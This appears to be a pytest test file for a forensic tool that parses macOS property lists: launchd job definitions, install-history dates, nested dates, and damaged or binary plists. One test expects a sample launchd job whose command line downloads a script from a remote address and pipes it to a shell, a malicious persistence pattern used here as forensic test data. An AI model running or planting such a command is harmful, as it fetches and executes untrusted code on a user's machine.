"""Property lists: jobs of launchd, and whatever has dates in it."""

from __future__ import annotations

import plistlib
from datetime import timedelta
from typing import Any

import pytest

from tocsin.collecting.format import Certainty, Source
from tocsin.collecting.formats.macos_plist import FORMAT, recognise

from tests.collecting.reading import events_and_rejections
from tests.collecting.samples_macos import JOB, PLIST, WHEN


def test_a_job_of_launchd() -> None:
    source = Source("mac1/Library/LaunchDaemons/com.example.agent.plist", modified=lambda: 1_614_668_400.0)
    (event,), rejected = events_and_rejections(FORMAT, JOB, source)
    assert rejected == []
    assert (event["_log"], event["Label"], event["Program"]) == ("launchd", "com.example.agent", "/bin/sh")
    assert event["CommandLine"] == "/bin/sh -c curl http://198.51.100.7/a | sh"
    assert (event["RunAtLoad"], event["StartInterval"]) == ("true", "60")
    assert str(event["_time"]) == "2021-03-02 07:00:00+00:00"


@pytest.mark.parametrize("arguments", [7, "sh", {"a": 1}, None])
def test_a_job_whose_arguments_are_no_list(arguments: Any) -> None:
    job = {"Label": "x", "Program": "/bin/sh"} | ({} if arguments is None else {"ProgramArguments": arguments})
    (event,), rejected = events_and_rejections(FORMAT, plistlib.dumps(job))
    assert rejected == []
    assert (event["Label"], event["Program"]) == ("x", "/bin/sh")


def test_each_date_is_an_event_with_what_stands_beside_it() -> None:
    first, second = events_and_rejections(FORMAT, PLIST, Source("x/InstallHistory.plist"))[0]
    assert (first["_log"], first["Key"], first["displayName"]) == ("InstallHistory", "0/date", "Tool")
    assert first["packageIdentifiers"] == ["org.example.a", "org.example.b"]
    assert (str(second["_time"]), second["processName"]) == ("2021-03-02 08:00:00+00:00", "installer")


def test_dates_deep_inside_and_in_lists() -> None:
    value = {"Wi-Fi": {"ssid": "guest", "Joined": [WHEN, WHEN - timedelta(days=7365)]}, "n": 1}
    events, _ = events_and_rejections(FORMAT, plistlib.dumps(value))
    assert [(one["Key"], str(one["_time"])[:4]) for one in events] == [
        ("Wi-Fi/Joined/0", "2021"), ("Wi-Fi/Joined/1", "2001"),
    ]  # fmt: skip


def test_a_list_without_dates_is_kept_without_a_time() -> None:
    (event,), _ = events_and_rejections(FORMAT, plistlib.dumps({"a": 1, "b": "x"}, fmt=plistlib.FMT_BINARY))
    assert (event["a"], event["b"]) == ("1", "x")
    assert "_time" not in event


def test_one_object_many_times_comes_to_an_end() -> None:
    value: Any = [WHEN]
    for _ in range(40):  # two to the power of forty ways to one date
        value = [value, value]
    events, rejected = events_and_rejections(FORMAT, plistlib.dumps(value, fmt=plistlib.FMT_BINARY))
    assert 0 < len(events) < 200_000
    assert "only the first are read" in rejected[0].reason


@pytest.mark.parametrize("data", [PLIST[:-9], PLIST[:40], JOB[:-30], JOB[:90] + b"<\0>", b"bplist00"])
def test_a_damaged_list_is_told(data: bytes) -> None:
    events, rejected = events_and_rejections(FORMAT, data)
    assert events == []
    assert "a damaged property list" in rejected[0].reason


@pytest.mark.parametrize("data", [b"<html><plist>", b"<?xml version='1.0'?><a/>", b"bplus", b""])
def test_what_is_none(data: bytes) -> None:
    assert recognise(data, "x.plist") is Certainty.NO
